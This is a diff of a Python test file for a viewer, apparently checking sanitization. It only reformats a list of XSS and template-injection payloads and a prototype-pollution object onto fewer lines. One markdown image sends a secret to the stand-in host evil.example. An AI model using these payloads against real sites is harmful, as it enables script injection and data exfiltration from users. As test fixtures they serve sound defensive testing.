@@ -23,25 +23,16 @@ from tests.support.server import LoopbackServer
 from tests.viewer.served import HEADERS, LOOPBACK, Served, Visit, app_of, client_of, opened_browser
 
 MARKUP = [
-    "<img src=x onerror=window.pwned=1>",
-    "</script><script>window.pwned=1</script>",
-    '"><svg onload=window.pwned=1>',
-    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
-    "<a href='javascript:window.pwned=1'>here</a>",
-    "[here](javascript:window.pwned=1)",
-    "![x](https://evil.example/?d=secret)",
-    "<style>*{display:none}</style>",
-    "{{constructor.constructor('window.pwned=1')()}}",
-    "<math><mtext></p><img src=x onerror=window.pwned=1>",
-]
+    "<img src=x onerror=window.pwned=1>", "</script><script>window.pwned=1</script>", '"><svg onload=window.pwned=1>',
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<a href='javascript:window.pwned=1'>here</a>",
+    "[here](javascript:window.pwned=1)", "![x](https://evil.example/?d=secret)", "<style>*{display:none}</style>",
+    "{{constructor.constructor('window.pwned=1')()}}", "<math><mtext></p><img src=x onerror=window.pwned=1>",
+]  # fmt: skip
 ALL = "\n".join(MARKUP)
 POLLUTED: dict[str, Any] = {
-    "__proto__": {"polluted": 1},
-    "constructor": {"prototype": {"polluted": 1}},
-    "toString": "x",
-    "hasOwnProperty": "y",
+    "__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "toString": "x", "hasOwnProperty": "y",
     "text": ALL,
-}
+}  # fmt: skip
 
 
 class Reply(BaseModel):
